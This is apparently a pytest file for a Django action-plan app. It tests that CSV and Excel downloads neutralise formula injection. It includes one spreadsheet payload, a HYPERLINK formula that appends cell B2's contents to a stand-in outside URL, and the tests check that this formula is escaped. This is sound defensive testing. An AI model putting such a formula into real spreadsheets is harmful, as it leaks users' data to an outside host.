"""Downloads of a plan whose text holds Word's line break, a long paragraph or a formula answer, and run nothing."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actionplan.storage.conversion import load_plan, replace_recommendations

HYPERLINK = '=HYPERLINK("https://example.invalid/?"&B2,"Open")'


@pytest.fixture
def awkward(estate):
    plan = estate.draft
    core = load_plan(plan)
    rec = core.recommendations[0]
    paragraph = " ".join(["Every wing will hold a weekly meeting on safety and violence reduction."] * 56)
    rec.response = f"The strategy will be rewritten.\x0bIt will be published.\n\n{paragraph}"
    rec.actions[0].text = HYPERLINK
    replace_recommendations(plan, core.recommendations)
    return plan


@pytest.mark.parametrize("format", ["docx", "pdf", "html", "xlsx", "csv", "json"])
def test_every_download_of_awkward_text_answers(client, estate, awkward, format: str) -> None:
    client.force_login(estate.people["coordinator"])
    response = client.get(reverse("download", args=[awkward.pk, format]))
    assert response.status_code == 200
    if format == "csv":
        assert f"'{HYPERLINK}".replace('"', '""') in response.content.decode("utf-8-sig")


@pytest.mark.parametrize("path", ["download", "progress-report"])
def test_no_spreadsheet_cell_is_a_formula(client, estate, awkward, path: str) -> None:
    client.force_login(estate.people["coordinator"])
    url = (
        reverse("download", args=[awkward.pk, "xlsx"])
        if path == "download"
        else f"/plans/{awkward.pk}/progress-report.xlsx"
    )
    response = client.get(url)
    assert response.status_code == 200
    cells = [cell for sheet in load_workbook(io.BytesIO(response.content)) for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert f"'{HYPERLINK}" in [cell.value for cell in cells]
